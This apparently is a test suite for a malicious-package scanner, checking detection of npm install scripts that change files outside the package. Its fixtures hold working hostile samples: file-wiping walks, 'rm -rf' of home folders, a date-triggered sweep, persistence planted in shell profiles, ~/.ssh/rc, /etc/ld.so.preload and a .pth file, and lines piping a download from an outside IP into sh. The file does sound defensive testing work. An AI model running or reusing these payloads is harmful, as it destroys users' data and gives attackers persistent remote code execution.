/**
 * Files a package does not own, changed without anyone calling it (js.foreign-file-change,
 * script.foreign-file-change): the act shared by wipers, planted start-up entries, worms and
 * patched applications, reported whatever the change is for. Each case has a look-alike that
 * must stay quiet: caches, temporary and own folders, a tool's generated folder, the package's
 * own files reached with `..`, and the same code in a function nobody calls.
 */
import type { AnalysisResult } from '../../../src/engine/types';
import { analyzeSource } from './helpers';

const pkg = (extra: Record<string, unknown> = {}) =>
  JSON.stringify({ name: 'tidy-paths', version: '1.0.0', main: 'index.js', ...extra });
const postinstall = (cmd: string) => pkg({ scripts: { postinstall: cmd } });

function foreign(r: AnalysisResult): { rule: string; type: string; confidence: number; message: string }[] {
  return r.evidence
    .filter((f) => /foreign-file-change$/.test(f.rule) && 'threat_type' in f)
    .map((f) => ({
      rule: f.rule,
      type: (f as { threat_type: string }).threat_type,
      confidence: f.confidence,
      message: f.message,
    }));
}

describe('code that runs when the package is loaded', () => {
  const truncate = `const fs = require('fs'), path = require('path');
function walk(dir, visit) {
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    e.isDirectory() ? walk(p, visit) : visit(p);
  }
}`;
  it("truncating the project's files from the entry's top level, through a helper and a callback", () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `${truncate}
walk(process.cwd(), (f) => fs.truncateSync(f, 0));
module.exports = (x) => x;`,
    });
    const hit = foreign(r)[0];
    expect(hit).toMatchObject({ rule: 'js.foreign-file-change', type: 'malicious_code', confidence: 0.6 });
    expect(hit!.message).toMatch(/as soon as it is loaded/);
    expect(r.risk_level).not.toBe('clean');
  });
  it('the same walk in an exported function nobody calls yet (a codemod) is not reported', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `${truncate}
module.exports = function clear(root) { walk(root || process.cwd(), (f) => fs.truncateSync(f, 0)); };`,
    });
    expect(foreign(r)).toEqual([]);
  });
  it('a module the entry requires, writing into the packages beside it on load', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `require('./lib/boot');\nmodule.exports = {};`,
      'lib/boot.js': `const fs = require('fs'), path = require('path');
const nm = path.join(__dirname, '..', '..');
for (const name of fs.readdirSync(nm)) fs.appendFileSync(path.join(nm, name, 'index.js'), '\\n;0;');`,
    });
    expect(foreign(r).map((f) => f.rule)).toContain('js.foreign-file-change');
  });
  it("a file in lib/ writing into the package's own dist/ with '..' is its own business", () => {
    const r = analyzeSource({
      'package.json': pkg({ scripts: { postinstall: 'node lib/build.js' } }),
      'lib/build.js': `const fs = require('fs'), path = require('path');
fs.writeFileSync(path.join(__dirname, '..', 'dist', 'index.js'), 'module.exports = 1;');`,
    });
    expect(foreign(r)).toEqual([]);
  });
});

describe('install-time code', () => {
  it("writing a file in the user's home", () => {
    const r = analyzeSource({
      'package.json': postinstall('node setup.js'),
      'setup.js': `const os = require('os'), fs = require('fs'), path = require('path');
const where = [os.homedir(), '.config', 'gh', 'hosts.yml'];
fs.writeFileSync(path.join(...where), 'github.com:\\n  git_protocol: https\\n');`,
    });
    expect(foreign(r)[0]).toMatchObject({
      rule: 'js.foreign-file-change',
      type: 'install_script_injection',
      confidence: 0.75,
    });
    expect(r.risk_level).toBe('critical');
  });
  it('a home folder written out by drive and user name (C:\\Users\\<name>, /home/<name>) is the home', () => {
    for (const target of [
      '`C:\\\\Users\\\\${os.userInfo().username}\\\\AppData\\\\Local\\\\Discord\\\\app-1.0\\\\modules\\\\index.js`',
      '`/home/${os.userInfo().username}/.bashrc`',
    ]) {
      const r = analyzeSource({
        'package.json': postinstall('node setup.js'),
        'setup.js': `const os = require('os'), fs = require('fs');\nfs.appendFileSync(${target}, 'x');`,
      });
      expect(foreign(r)[0]).toMatchObject({ rule: 'js.foreign-file-change' });
    }
    const quiet = analyzeSource({
      'package.json': postinstall('node setup.js'),
      'setup.js': `const os = require('os'), fs = require('fs');
fs.writeFileSync(\`C:\\\\Users\\\\\${os.userInfo().username}\\\\AppData\\\\Local\\\\Temp\\\\tidy.log\`, 'x');
fs.writeFileSync(\`C:\\\\Users\\\\\${os.userInfo().username}\\\\AppData\\\\Roaming\\\\tidy-paths\\\\config.json\`, '{}');`,
    });
    expect(foreign(quiet)).toEqual([]);
  });
  it('caches, the temporary folder, its own settings folder and a generated folder under node_modules are not reported', () => {
    const r = analyzeSource({
      'package.json': postinstall('node setup.js'),
      'setup.js': `const os = require('os'), fs = require('fs'), path = require('path');
fs.writeFileSync(path.join(os.homedir(), '.cache', 'tidy-paths', 'bin'), 'x');
fs.writeFileSync(path.join(os.tmpdir(), 'tidy.log'), 'x');
fs.writeFileSync(path.join(os.homedir(), '.tidy-paths', 'config.json'), '{}');
fs.writeFileSync(path.join(os.homedir(), '.config', 'tidy-paths', 'state.json'), '{}');
fs.writeFileSync(path.join(__dirname, '..', '.prisma', 'client', 'index.js'), '');
fs.rmSync(path.join(__dirname, 'build'), { recursive: true, force: true });`,
    });
    expect(foreign(r)).toEqual([]);
  });
  it('a command run from code that deletes a folder of the home', () => {
    const r = analyzeSource({
      'package.json': postinstall('node setup.js'),
      'setup.js': `const { execSync } = require('child_process');
const steps = ['echo ok', 'rm -rf ~/Pictures/*'];
steps.forEach((s) => execSync(s));`,
    });
    expect(foreign(r).some((f) => /runs a command that deletes or moves ~\/Pictures/.test(f.message))).toBe(
      true,
    );
  });
});

describe('install-time scripts', () => {
  it.each([
    [
      'sh',
      'setup.sh',
      'sh setup.sh',
      '#!/bin/sh\nT="$HOME/.profile"\nprintf "%s\\n" "export PATH=/opt/x:$PATH" >> "$T"\n',
    ],
    [
      'batch',
      'setup.cmd',
      'setup.cmd',
      '@echo off\r\ncopy /y helper.exe "%APPDATA%\\Microsoft\\helper.exe" >nul\r\n',
    ],
    [
      'PowerShell',
      'setup.ps1',
      'powershell -File setup.ps1',
      'Set-Content -Path "$env:USERPROFILE\\.gitconfig" -Value "[core]"\n',
    ],
    [
      'Python',
      'setup.py',
      'python3 setup.py',
      'import os\nhome = os.path.expanduser("~")\nwith open(os.path.join(home, ".netrc"), "a") as f:\n    f.write("machine x")\n',
    ],
  ])('a %s step that changes a file under home', (_dialect, file, cmd, text) => {
    const r = analyzeSource({ 'package.json': postinstall(cmd), [file]: text });
    expect(foreign(r).map((f) => f.rule)).toContain('script.foreign-file-change');
    expect(r.risk_level).toBe('critical');
  });
  it('output thrown away, caches cleared and files written inside the package are not reported', () => {
    const r = analyzeSource({
      'package.json': postinstall('sh setup.sh'),
      'setup.sh':
        '#!/bin/sh\nnode build.js > build.log 2>/dev/null\nrm -rf "$HOME/.cache/tidy-paths"\ncp bin/tool dist/tool\necho done >&2\n',
    });
    expect(foreign(r)).toEqual([]);
  });
});

describe('relative paths after a cd out of the package', () => {
  it.each([
    [
      'the project npm was started from',
      'cd "$INIT_CWD" || exit 0\necho "//r.example/:_authToken=$NPM_TOKEN" > .npmrc.w\n',
    ],
    ['the home folder', 'cd ~ && rm -rf Documents Projects\n'],
    ['the project above node_modules', 'pushd ../.. >/dev/null\ncp "$OLDPWD/hook.sh" .git-hook.sh\n'],
  ])('%s', (_where, script) => {
    const r = analyzeSource({
      'package.json': postinstall('sh setup.sh'),
      'setup.sh': `#!/bin/sh\n${script}`,
    });
    expect(foreign(r).map((f) => f.rule)).toContain('script.foreign-file-change');
  });
  it('a cd into its own build folder, the temporary folder or its cache is not reported', () => {
    const r = analyzeSource({
      'package.json': postinstall('sh setup.sh'),
      'setup.sh':
        '#!/bin/sh\ncd build && rm -rf out && cd ..\ncd "${TMPDIR:-/tmp}" && rm -f tidy-*.log\ncd "$HOME/.cache/tidy-paths" && rm -rf old\n',
    });
    expect(foreign(r)).toEqual([]);
  });
});

describe('relative paths after process.chdir', () => {
  const run = (code: string) =>
    analyzeSource({ 'package.json': postinstall('node setup.js'), 'setup.js': code });
  it('into the project npm was started from, or the home folder', () => {
    expect(
      foreign(
        run(`process.chdir(process.env.INIT_CWD); const fs = require('fs');
const p = JSON.parse(fs.readFileSync('package.json', 'utf8')); p.scripts.preinstall = 'node x.js';
fs.writeFileSync('package.json', JSON.stringify(p));`),
      )[0],
    ).toMatchObject({ rule: 'js.foreign-file-change' });
    expect(
      foreign(
        run(`process.chdir(require('os').homedir()); require('fs').appendFileSync('.profile', 'x');`),
      )[0],
    ).toMatchObject({ rule: 'js.foreign-file-change' });
  });
  it('into its own folder or the temporary folder: quiet', () => {
    expect(
      foreign(run(`process.chdir(__dirname); require('fs').writeFileSync('build/out.json', '{}');`)),
    ).toEqual([]);
    expect(
      foreign(run(`process.chdir(require('os').tmpdir()); require('fs').writeFileSync('tidy.log', 'x');`)),
    ).toEqual([]);
  });
});

describe('an attacker rewrite of the date-bomb and home-wipe samples', () => {
  it('a bash array of home folders walked by find, each file emptied by an inline shell', () => {
    const r = analyzeSource({
      'package.json': pkg({ scripts: { install: 'bash ./tools/post.sh' } }),
      'tools/post.sh':
        '#!/usr/bin/env bash\nTARGETS=("$HOME/.ssh" "$HOME/Documents")\nfor t in "${TARGETS[@]}"; do\n  find "$t" -type f -exec sh -c \': > "$1"\' _ {} \\;\ndone\n',
    });
    expect(foreign(r).map((f) => f.message)).toEqual([
      expect.stringMatching(/writes \$HOME\/\.ssh \$HOME\/Documents, which the package does not own/),
    ]);
    expect(r.risk_level).toBe('critical');
  });
  it('a date trigger in a helper module the entry arms with a settings object, through fs/promises', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `const sched = require('./lib/sched');
sched.arm({ after: Date.UTC(2026, 2, 1), exts: ['.js', '.ts'] });
module.exports = { fmt: (d) => d.toISOString() };`,
      'lib/sched.js': `const { readdir, writeFile } = require('node:fs/promises');
const { join, extname } = require('node:path');
async function sweep(dir, cfg) {
  const ents = await readdir(dir, { withFileTypes: true });
  for (const e of ents) {
    const p = join(dir, e.name);
    if (e.isDirectory()) await sweep(p, cfg);
    else if (cfg.exts.includes(extname(p))) await writeFile(p, '');
  }
}
exports.arm = (cfg) => { if (Date.now() > cfg.after) sweep(process.cwd(), cfg).catch(() => {}); };`,
    });
    expect(foreign(r)[0]).toMatchObject({ rule: 'js.foreign-file-change', type: 'malicious_code' });
    expect(r.risk_level).toBe('critical');
  });
});

describe('persistence variants: places that run code later', () => {
  it('a .pth file planted in the Python site folder, whose import line pipes a download into sh', () => {
    const r = analyzeSource({
      'package.json': postinstall('node i.js'),
      'i.js': `const { execFileSync } = require('child_process'); const fs = require('fs'); const path = require('path');
const sp = execFileSync('python3', ['-c', 'import site; print(site.getusersitepackages())']).toString().trim();
fs.writeFileSync(path.join(sp, 'zz_telemetry.pth'), "import os; os.system('curl -s http://198.51.100.4/p | sh &')\\n");`,
    });
    expect(r.risk_level).toBe('critical');
    expect(r.evidence.map((e) => e.message)).toContainEqual(
      expect.stringMatching(/zz_telemetry\.pth, to run later/),
    );
  });
  it('~/.ssh/rc (run at every SSH login) and /etc/ld.so.preload (loaded into every process)', () => {
    const r = analyzeSource({
      'package.json': postinstall('node i.js'),
      'i.js': `const fs = require('fs'), os = require('os'), path = require('path');
fs.appendFileSync(path.join(os.homedir(), '.ssh', 'rc'), '(curl -s http://198.51.100.4/r | sh &)\\n');
try { fs.appendFileSync('/etc/ld.so.preload', '/usr/local/lib/libsysupd.so\\n'); } catch {}`,
    });
    const messages = r.evidence.map((e) => `${e.rule} ${e.message}`);
    expect(messages).toContainEqual(
      expect.stringMatching(/^shell\.download-pipe-shell writes ~\/\.ssh\/rc, to run later/),
    );
    expect(messages).toContainEqual(
      expect.stringMatching(/^js\.write-persistence writes \/etc\/ld\.so\.preload/),
    );
  });
  it('a settings file given NODE_OPTIONS=--require while the package installs', () => {
    const r = analyzeSource({
      'package.json': postinstall('node i.js'),
      'i.js': `const fs = require('fs'), os = require('os'), path = require('path');
const env = { 'terminal.integrated.env.linux': { NODE_OPTIONS: '--require ' + path.join(__dirname, 'hook.js') } };
fs.writeFileSync(path.join(os.homedir(), '.config', 'Code', 'User', 'settings.json'), JSON.stringify(env));`,
    });
    expect(r.evidence.map((e) => `${e.rule} ${e.message}`)).toContainEqual(
      expect.stringMatching(/^js\.write-persistence .*later processes load code \(NODE_OPTIONS/),
    );
  });
  it('quiet: a Python build step running ordinary commands, and a .pth listing a source folder', () => {
    const r = analyzeSource({
      'package.json': postinstall('python3 build.py && node i.js'),
      'build.py':
        "import os, subprocess\nsubprocess.run('npm run build', shell=True)\nos.system('echo built')\n",
      'i.js': `const fs = require('fs'), path = require('path');
fs.writeFileSync(path.join(__dirname, 'venv', 'lib', 'local.pth'), path.join(__dirname, 'src') + '\\n');`,
    });
    expect(r.evidence.filter((e) => 'threat_type' in e && e.confidence >= 0.5)).toEqual([]);
  });
});

describe('the entry is what require or import resolves to', () => {
  it('a package with only an exports map: its "node" condition file runs on load', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({
        name: 'tidy-paths',
        version: '1.0.0',
        exports: {
          '.': {
            types: './dist/index.d.ts',
            node: { import: './dist/node.mjs' },
            default: './dist/index.js',
          },
        },
      }),
      'dist/index.js': 'module.exports = (p) => p;',
      'dist/node.mjs': `import fs from 'node:fs';
for (const f of fs.readdirSync(process.cwd())) if (f.endsWith('.js')) fs.writeFileSync(f, '');
export default (p) => p;`,
    });
    expect(foreign(r)[0]).toMatchObject({ rule: 'js.foreign-file-change', type: 'malicious_code' });
  });
});
